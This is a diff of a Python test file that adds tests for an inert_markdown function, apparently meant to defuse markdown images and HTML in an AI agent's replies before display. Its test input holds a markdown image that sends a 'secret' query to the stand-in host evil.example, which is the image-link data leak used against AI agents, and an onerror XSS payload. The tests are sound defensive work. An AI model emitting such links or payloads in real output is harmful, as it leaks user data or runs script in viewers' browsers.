@@ -2,7 +2,12 @@ from __future__ import annotations
 
 import pytest
 
-from agent_magic.codeblocks import CodeBlock, extract_code_blocks, is_termination
+from agent_magic.codeblocks import (
+    CodeBlock,
+    extract_code_blocks,
+    inert_markdown,
+    is_termination,
+)
 
 
 @pytest.mark.parametrize(
@@ -60,3 +65,24 @@ def test_no_code() -> None:
 )
 def test_termination(text: str, expected: bool) -> None:
     assert is_termination(text) is expected
+
+
+def test_inert_markdown_loads_nothing_by_itself() -> None:
+    reply = (
+        "See ![chart](https://evil.example/c.png?q=secret) and <img src=x onerror=alert(1)>.\n"
+        "A reference image ![logo][1], a `a < b` span and ``![kept](in-code)``.\n"
+        "```python\nif a < b:\n    print('![not an image](x)')\n```\n"
+        "Done <b>now</b>."
+    )
+    shown = inert_markdown(reply)
+    assert shown.count("![") == 2  # only the two inside code
+    assert "[image: chart](https://evil.example/c.png?q=secret)" in shown
+    assert "[image: logo][1]" in shown
+    assert "&lt;img src=x" in shown and "&lt;b>now&lt;/b>" in shown
+    # Code is shown as code: untouched.
+    assert "`a < b`" in shown and "if a < b:\n    print('![not an image](x)')" in shown
+
+
+def test_inert_markdown_while_a_fence_is_still_streaming() -> None:
+    assert inert_markdown("Try:\n```python\nx = '<b>'") == "Try:\n```python\nx = '<b>'"
+    assert inert_markdown("plain text stays") == "plain text stays"
